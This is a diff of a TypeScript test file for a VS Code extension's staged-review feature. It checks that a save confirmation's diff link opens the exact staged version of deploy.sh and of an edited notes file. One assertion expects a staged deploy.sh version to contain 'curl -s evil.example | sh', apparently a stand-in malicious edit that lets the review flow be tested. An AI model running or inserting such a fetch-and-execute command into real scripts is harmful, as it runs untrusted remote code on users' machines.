@@ -102,25 +102,27 @@ describe('staged review', () => {
     const saved = api.host.session.media.get(m2);
     assert.ok(api.host.session.media.get(m3).createdAt >= saved.createdAt, 'm3 is the newest version of the line');
 
-    // The confirmation names m2, counts m2, and its link opens m2's diff.
+    // The confirmation's link opens m2's diff, its counts are m2's, and it names m2.
     const prepared = api.prepare('save_media', { media_id: m2 });
     const message = prepared.confirmationMessages?.message;
     const text = typeof message === 'string' ? message : message?.value ?? '';
+    const link = /\(command:workspaceTools\.openStagedDiff\?([^)]+)\)/.exec(text);
+    assert.ok(link, `no diff link in ${text}`);
+    await vscode.commands.executeCommand('workspaceTools.openStagedDiff', ...(JSON.parse(decodeURIComponent(link[1]!)) as unknown[]));
+    const tab = await waitFor('the diff the link opens', () => {
+      const active = vscode.window.tabGroups.activeTabGroup.activeTab;
+      return active?.input instanceof vscode.TabInputTextDiff && active.input.modified.scheme === 'staged' && active.input.modified.path === '/deploy.sh' ? active : undefined;
+    });
+    const diff = tab.input as vscode.TabInputTextDiff;
+    const shown = await vscode.workspace.openTextDocument(diff.modified);
+    assert.doesNotMatch(shown.getText(), /echo deploying/, 'the link opened m3, a version the save does not write');
+    assert.match(shown.getText(), /curl -s evil\.example \| sh/);
+    assert.deepEqual(Buffer.from(await vscode.workspace.fs.readFile(diff.modified)), Buffer.from(saved.bytes), 'the staged side is m2\'s bytes');
+    assert.equal(tab.label, `deploy.sh (staged ${m2} ↔ disk)`);
     const { added, removed } = api.host.session.media.changes(m2);
     assert.match(text, new RegExp(`Change: \\*\\*\\+${added} −${removed}\\*\\* lines`));
     assert.match(text, new RegExp(`Version: \\*\\*${m2}\\*\\*`));
     assert.match(String(prepared.invocationMessage), new RegExp(`^Save ${m2} to deploy\\.sh`));
-    const link = /\(command:workspaceTools\.openStagedDiff\?([^)]+)\)/.exec(text);
-    assert.ok(link, `no diff link in ${text}`);
-    await vscode.commands.executeCommand('workspaceTools.openStagedDiff', ...(JSON.parse(decodeURIComponent(link[1]!)) as unknown[]));
-    const diff = await waitFor('the diff the link opens', () => {
-      const tab = vscode.window.tabGroups.activeTabGroup.activeTab;
-      return tab?.input instanceof vscode.TabInputTextDiff && tab.label === `deploy.sh (staged ${m2} ↔ disk)` ? tab.input : undefined;
-    });
-    assert.deepEqual(Buffer.from(await vscode.workspace.fs.readFile(diff.modified)), Buffer.from(saved.bytes), 'the staged side is m2\'s bytes');
-    const shown = await vscode.workspace.openTextDocument(diff.modified);
-    assert.match(shown.getText(), /curl -s evil\.example \| sh/);
-    assert.doesNotMatch(shown.getText(), /echo deploying/);
 
     // Each head of the line opens as itself (the view's entries and version children run this command).
     await vscode.commands.executeCommand('workspaceTools.openStagedDiff', m3);
@@ -149,9 +151,18 @@ describe('staged review', () => {
     assert.equal(await document.save(), true);
     const edit = api.host.session.media.heads().find((m) => m.path.display === 'docs/notes.md');
     assert.ok(edit && edit.parentId === staged && edit.origin === 'person');
+
+    // The version it was opened as still shows its own text, under a name VS Code has not loaded the edit into.
+    await vscode.commands.executeCommand('workspaceTools.openStagedDiff', staged);
+    const diff = await waitFor('the diff of the original version', () => vscode.window.tabGroups.all.flatMap((g) => g.tabs).map((t) => t.input)
+      .find((input): input is vscode.TabInputTextDiff => input instanceof vscode.TabInputTextDiff && input.modified.scheme === 'staged' && /^m\d+/.exec(input.modified.query)?.[0] === staged));
+    assert.equal((await vscode.workspace.openTextDocument(diff.modified)).getText(), original, 'the diff of the version opened shows the person\'s edit instead');
+    assert.notEqual(diff.modified.toString(), uri.toString());
+    assert.equal(new TextDecoder().decode(await vscode.workspace.fs.readFile(uri)), original, 'the edited document\'s name still serves the version it names');
+
     // The edited tab gives way to the diff of the version the edit made.
     const editedTabOpen = (): boolean => vscode.window.tabGroups.all.flatMap((g) => g.tabs).some((t) => t.input instanceof vscode.TabInputText && t.input.uri.toString() === uri.toString());
-    await waitFor('the diff of the edit in the edited tab\'s place', () => (vscode.window.tabGroups.activeTabGroup.activeTab?.label === `notes.md (staged ${edit.id} ↔ disk)` && !editedTabOpen()) || undefined);
+    await waitFor('the diff of the edit in the edited tab\'s place', () => (vscode.window.tabGroups.all.flatMap((g) => g.tabs).some((t) => t.label === `notes.md (staged ${edit.id} ↔ disk)`) && !editedTabOpen()) || undefined);
     // A second save of the same document continues the edit (one line, no sibling versions).
     const second = new vscode.WorkspaceEdit();
     second.insert(uri, new vscode.Position(0, 0), 'Twice.\n');
@@ -161,16 +172,6 @@ describe('staged review', () => {
     assert.equal(again.length, 1);
     assert.equal(again[0]!.parentId, edit.id);
     assert.equal(new TextDecoder().decode(again[0]!.bytes), `Twice.\nEdited by a person.\n${original}`);
-
-    // The version it was opened as still shows its own text, under a name VS Code has not loaded the edit into.
-    await vscode.commands.executeCommand('workspaceTools.openStagedDiff', staged);
-    const diff = await waitFor('the diff of the original version', () => {
-      const tab = vscode.window.tabGroups.activeTabGroup.activeTab;
-      return tab?.input instanceof vscode.TabInputTextDiff && tab.label === `notes.md (staged ${staged} ↔ disk)` ? tab.input : undefined;
-    });
-    assert.notEqual(diff.modified.toString(), uri.toString());
-    assert.equal((await vscode.workspace.openTextDocument(diff.modified)).getText(), original);
-    assert.equal(new TextDecoder().decode(await vscode.workspace.fs.readFile(uri)), original, 'the edited document\'s name still serves the version it names');
     api.host.session.media.discardAll();
     await vscode.commands.executeCommand('workbench.action.closeAllEditors');
   });
